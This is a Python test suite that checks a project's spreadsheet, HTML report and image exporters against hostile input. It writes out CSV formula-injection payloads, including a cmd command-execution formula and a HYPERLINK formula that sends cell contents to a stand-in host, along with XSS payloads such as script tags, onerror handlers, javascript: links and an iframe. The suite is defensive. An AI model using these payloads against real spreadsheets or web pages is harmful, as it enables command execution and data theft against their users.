"""What people take away: no cell runs in a spreadsheet, no script in a report."""

import csv
import io
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import numpy as np

from bayesnet.design_report import design_report
from core.batch.rows import Row
from core.batch.table import batch_csv, batch_latents_csv
from core.columns import Column
from core.exports.html import Picture, Said, Table, Text, page
from core.exports.spreadsheet import harmless, latents_csv, to_csv
from core.exports.tiff16 import encode_tiff16
from core.images import encode_png, read_image
from tests.hostile.case import Case, equal
from tests.recipes import COLUMNS, grey_noise, make_recipe

CELLS, PAGES, FILES = "spreadsheet cells", "reports", "picture exports"
FORMULAS = {
    "a formula": "=1+1",
    "a program": "=cmd|' /C calc'!A0",
    "an address": '=HYPERLINK("http://e.example/?"&A1)',
    "plus": "+1+cmd|x",
    "minus": "-2+3+cmd|x",
    "at": "@SUM(1)",
    "a space before": "  =1+1",
    "a tab before": "\t=1+1",
    "a line break before": "\r\n=1+1",
    "a zero-width space before": "\u200b=1+1",
    "a byte order mark before": "\ufeff=1+1",
    "NUL before": "\0=1+1",
    "a wide space before": "\u3000=1+1",
    "a space that does not break before": "\xa0=1+1",
    "full-width signs": "＝1+1",
    "a full-width at": "＠SUM(1)",
}
INNER = {
    "a semicolon before": "a;=1+1",
    "a semicolon and a space before": "a; =cmd|x",
    "a tab inside": "a\t@SUM(1)",
    "a new line inside": "a\n=1+1",
    "quotes and a semicolon": 'a";=1+1;"',
}


def _runs(text: str) -> list[str]:
    """Return the cells that a spreadsheet would run, however its language separates cells."""
    found = []
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                for line in re.split(r"[\r\n]+", cell):
                    plain = "".join(c for c in line if c.isprintable()).strip(" \u3000\xa0")
                    number = plain.replace(".", "").lstrip("-").isdigit()
                    if (
                        plain.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
                        and not number
                    ):
                        found.append(cell)
    return found


def _cells() -> Iterator[Case]:
    def none_runs(text: str) -> None:
        assert not _runs(text), _runs(text)

    for what, cell in (FORMULAS | INNER).items():
        yield Case(
            name=f"{what}, in a cell",
            category=CELLS,
            right=none_runs,
            read=lambda _, c=cell: to_csv(["a"], [[c, 1.0]]),
        )
        yield Case(
            name=f"{what}, in a batch",
            category=CELLS,
            right=none_runs,
            read=lambda _, c=cell: batch_csv(
                [Row(name=c, problem=c), Row(name="b", remarks=(c, c))], [], (c, "measured")
            ),
        )
    hostile = Column("x", "=1+1", "=cmd|x", "process", "numeric")
    yield Case(
        name="headings and names of latents",
        category=CELLS,
        right=none_runs,
        read=lambda _: latents_csv({"=1+1": [1.0]}) + to_csv([hostile.label, hostile.unit], []),
    )
    yield Case(
        name="names of pictures with their latents",
        category=CELLS,
        right=none_runs,
        read=lambda _: batch_latents_csv([Row(name="@x", mean_latent=np.zeros(3, "f4"))]),
    )
    for value, wanted in (
        (-4.5, "-4.5"),
        (np.float32(-1e-9), "-1e-09"),
        (float("nan"), ""),
        (float("-inf"), ""),
        (None, ""),
        (True, "yes"),
        (-7, "-7"),
    ):
        yield Case(
            name=f"the number {value!r} stays one",
            category=CELLS,
            read=lambda _, v=value: harmless(v),
            right=equal(wanted),
        )


class _Tags(HTMLParser):
    """The tags and attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, Any]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


SCRIPTS = {
    "a script": "<script>alert(1)</script>",
    "a picture that runs": "<img src=x onerror=alert(1)>",
    "the end of an attribute": '"><script>alert(1)</script>',
    "the end of the title": "</title><script>alert(1)</script>",
    "the end of the style": "</style><script>alert(1)</script>",
    "a link that runs": "javascript:alert(1)",
    "entities": "&lt;script&gt;&#60;script&#62;",
    "a comment": "<!--><script>alert(1)</script>-->",
    "single quotes": "' onload='alert(1)",
    "a frame": "<iframe src=http://e.example></iframe>",
}


def _pages() -> Iterator[Case]:
    def quiet(text: str) -> None:
        tags = _Tags()
        tags.feed(text)
        for tag, attributes in tags.found:
            assert tag not in ("script", "iframe", "object", "embed", "link", "base", "form"), tag
            assert not any(name.startswith("on") for name in attributes), attributes
            for name in ("src", "href"):
                assert str(attributes.get(name, "data:")).startswith("data:"), attributes
        assert "default-src 'none'" in text

    picture = encode_png(grey_noise(side=32))
    for what, text in SCRIPTS.items():
        yield Case(
            name=f"{what}, in a page",
            category=PAGES,
            right=quiet,
            read=lambda _, t=text: page(
                t, [Text(t), Said(t, t), Table([t], [[t]]), Picture(picture, t, t)]
            ),
        )

        def report(_: Any, t: str = text) -> str:
            columns = tuple(Column(c.name, c.unit, t[:80], c.role, c.kind) for c in COLUMNS)
            recipe = make_recipe(
                columns=columns,
                message=t,
                model={"name": t, "data_name": t, "data_sha256": t, "synthetic": True},
                versions={"microdesign": t, t: t},
                machine={"hardware": t, "threads": 1},
                created=t,
            )
            return design_report(recipe, [grey_noise()], t)

        yield Case(
            name=f"{what}, in the report of a design", category=PAGES, right=quiet, read=report
        )


def _files() -> Iterator[Case]:
    grey = grey_noise(side=40)
    bad = {
        "NaN": np.full((40, 40), np.nan),
        "infinity": np.full((40, 40), np.inf),
        "whole numbers": np.zeros((40, 40), int),
        "three dimensions": np.zeros((4, 4, 4)),
        "no pixel": np.zeros((0, 5)),
    }
    for what, pixels in bad.items():
        for name, encode in {"png": encode_png, "tiff": encode_tiff16}.items():
            yield Case(
                name=f"{what} as {name}",
                category=FILES,
                says="pixels",
                read=lambda _, e=encode, p=pixels: e(p),
            )
    for scale in (0.0, -1.0, float("nan"), float("inf"), 1e-30, 1e30):
        for name, encode in {"png": encode_png, "tiff": encode_tiff16}.items():
            yield Case(
                name=f"a scale of {scale} as {name}",
                category=FILES,
                says="um_per_px is",
                read=lambda _, e=encode, s=scale: e(grey, s),
            )
    for key in ("", "x" * 80, " x", "a\0b", "a\nb", "µ"):
        yield Case(
            name=f"the keyword {key[:8]!r} in a png",
            category=FILES,
            says="PNG text",
            read=lambda _, k=key: encode_png(grey, text={k: "x"}),
        )
    for what, text in SCRIPTS.items():
        yield Case(
            name=f"{what}, in a tiff",
            category=FILES,
            read=lambda _, t=text: (
                read_image(encode_tiff16(grey, 1.0, {t: t + "\r\n\0"})).um_per_px
            ),
            right=equal(1.0),
        )


CASES = (*_cells(), *_pages(), *_files())
